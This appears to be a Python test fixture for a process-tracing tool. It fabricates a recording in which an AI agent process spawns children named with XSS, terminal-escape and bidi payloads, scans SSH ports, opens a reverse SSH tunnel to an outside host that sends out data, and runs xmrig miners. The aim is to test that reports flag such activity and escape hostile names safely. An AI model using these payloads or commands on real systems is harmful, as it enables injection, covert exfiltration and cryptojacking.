# SPDX-License-Identifier: Apache-2.0
"""A recording with everything in it that a report must show, and names that try to be more than names."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import records
from recordings import Live

from tracer.kernel import schema
from tracer.rules import load_rules

#: What each would do if it were taken for markup, script, terminal codes or a table's line.
EVIL = (
    b"</script><script>document.title='pwned'</script>",
    b"<img src=x onerror=document.title='pwned'>",
    b"\"'><svg/onload=document.title='pwned'>",
    b"\x1b]0;pwned\x07\x1b[2J",
    b"|a|b|`c`|[x](javascript:alert(1))",
    "\u202eevil\u202c\u2028".encode(),
    b"\xff\xfe not utf-8",
)
SECOND = 1_000_000_000


def fork(tgid: int, parent: int, ts: int) -> bytes:
    return records._of(
        "EVENT_FORK", schema.FORK, tgid, ts, {"parent_tgid": parent, "parent_start": parent * 1000}
    ).tobytes()


def finish(tgid: int, ts: int, status: int = 0) -> bytes:
    return records._of("EVENT_EXIT", schema.EXIT, tgid, ts, {"status": status}).tobytes()


def make(path: Path, processes: int = 40) -> Live:
    """A trainer, its agent, tool calls with evil names, a scan's connects, a tunnel, miners, losses and a gap."""
    live = Live(path, load_rules())
    began = int(live.writer._index[0][3])

    def at(seconds: float) -> int:
        return began + int(seconds * SECOND)

    live.take(
        [
            records.execute([b"python3", b"train.py"], b"/usr/bin/python3", tgid=100, ts=at(0)),
            fork(101, 100, at(0.1)),
            records.execute(
                [b"python3", b"agent.py", b"--model", b"x"], b"/usr/bin/python3", tgid=101, ts=at(0.2)
            ),
        ]
    )
    for number in range(processes):
        pid, when = 200 + number, at(1 + number * 20 / processes)
        evil = EVIL[number % len(EVIL)]
        live.take(
            [
                fork(pid, 101, when),
                records.execute(
                    [b"sh", b"-c", evil], b"/tmp/" + evil.replace(b"/", b"_"), tgid=pid, ts=when + 1000
                ),
                records.connect(
                    f"10.0.0.{number % 200 + 1}", 22, tgid=pid, ts=when + 2000, cookie=1000 + number
                ),
                records.close(
                    1000 + number, f"10.0.0.{number % 200 + 1}", 22, tgid=pid, ts=when + 3000, error=111
                ),
                finish(pid, when + SECOND // 10),
            ]
        )
    live.take(
        [
            fork(5000, 101, at(22)),
            records.execute(
                [b"ssh", b"-N", b"-R", b"8080:localhost:8000", b"out@203.0.113.9"],
                b"/usr/bin/ssh",
                tgid=5000,
                ts=at(22.1),
            ),
            records.connect("203.0.113.9", 22, tgid=5000, ts=at(22.2), cookie=7),
        ]
    )
    for number in range(5):
        pid = 6000 + number
        live.take(
            [
                fork(pid, 101, at(24 + number)),
                records.execute(
                    [b"./xmrig", b"-o", b"stratum+tcp://pool.example:3333", EVIL[number]], b"/tmp/xmrig", tgid=pid,
                    ts=at(24.1 + number), cgroup=9,
                ),
                finish(pid, at(24.5 + number), 9),
            ]
        )  # fmt: skip
    lost = np.zeros(schema.KIND["EVENT_KINDS"], np.int64)
    lost[schema.KIND["EVENT_CONNECT"]] = 1204
    live.recorder.losses(lost, np.zeros(schema.LOSS["LOSS_REASONS"], np.int64))
    live.take(
        [
            records.close(
                7, "203.0.113.9", 22, tgid=5000, ts=at(29), sent=4_200_000, received=90_000, established=1
            ),
            finish(5000, at(29.5)),
        ]
    )
    return live
